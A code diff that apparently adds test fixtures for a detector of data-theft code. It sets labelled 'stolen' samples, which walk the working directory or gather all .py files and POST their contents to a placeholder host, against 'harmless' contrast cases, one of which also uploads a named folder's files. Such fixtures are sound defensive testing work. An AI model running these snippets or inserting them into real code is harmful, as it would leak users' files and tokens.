@@ -26,6 +26,17 @@ def described(files: dict[str, str], seconds: float = 20) -> list[str]:
 
 
 STOLEN = {
+    "every file below": f"""
+        import os, requests
+        sent = {{}}
+        for folder, _, names in os.walk("."):
+            for name in names:
+                sent[name] = open(os.path.join(folder, name)).read()
+        requests.post("https://{HOST}", json=sent)""",
+    "every file that fits": f"""
+        import requests
+        from pathlib import Path
+        requests.post("https://{HOST}", json=[page.read_text() for page in Path(".").rglob("*.py")])""",
     "a dictionary": f"""
         import os, requests
         config = {{"token": os.environ["GITHUB_TOKEN"], "url": "https://{HOST}"}}
@@ -197,6 +208,11 @@ STOLEN = {
 }
 
 HARMLESS = {
+    "the files of a folder that is given": f"""
+        import os, sys, requests
+        for folder, _, names in os.walk(sys.argv[1]):
+            for name in names:
+                requests.post("https://{HOST}", data=open(os.path.join(folder, name)).read())""",
     "an authorization header": f"""
         import os, requests
         headers = {{"Authorization": f"Bearer {{os.environ['GITHUB_TOKEN']}}"}}
